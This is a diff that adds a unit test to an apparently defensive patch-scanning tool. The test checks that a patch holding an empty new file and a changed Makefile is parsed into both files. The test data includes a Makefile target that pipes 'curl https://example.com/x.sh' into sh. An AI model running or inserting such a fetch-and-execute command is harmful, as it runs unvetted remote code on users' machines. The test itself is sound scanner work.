@@ -182,6 +182,24 @@ static void test_rename(void **state)
     plugin_view_destroy(&v);
 }
 
+/* An added empty file next to a change (a diff header with no hunk, which
+ * libgit2 1.5 refuses unless closed: common/patch_headers.h): the model holds
+ * both files, and the other file's lines are scanned. */
+static void test_empty_file_beside_a_change(void **state)
+{
+    (void)state;
+    char *patch = git_patch("mkdir -p Lib && : > Lib/__init__.py && printf 'all:\\n\\tcurl -fsSL https://example.com/x.sh | sh\\n' > Makefile");
+    assert_non_null(patch);
+    assert_non_null(strstr(patch, "index 0000000..e69de29\ndiff --git"));
+    plugin_view_t *v = view(patch, AIRLOCK_CAP_PATCH | AIRLOCK_CAP_PARSED, 0);
+    const airlock_input_t *in = plugin_view_input(v);
+    assert_int_equal(in->n_files, 2);
+    assert_true(file_of(in, "Lib/__init__.py")->flags & AIRLOCK_FILE_ADDED);
+    assert_true(file_of(in, "Makefile")->n_added >= 1);
+    plugin_view_destroy(&v);
+    free(patch);
+}
+
 static void test_binary_without_base(void **state)
 {
     (void)state;
@@ -329,6 +347,7 @@ int main(void)
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_text_lines),
         cmocka_unit_test(test_rename),
+        cmocka_unit_test(test_empty_file_beside_a_change),
         cmocka_unit_test(test_binary_without_base),
         cmocka_unit_test(test_binary_with_base),
         cmocka_unit_test(test_new_binary_file),
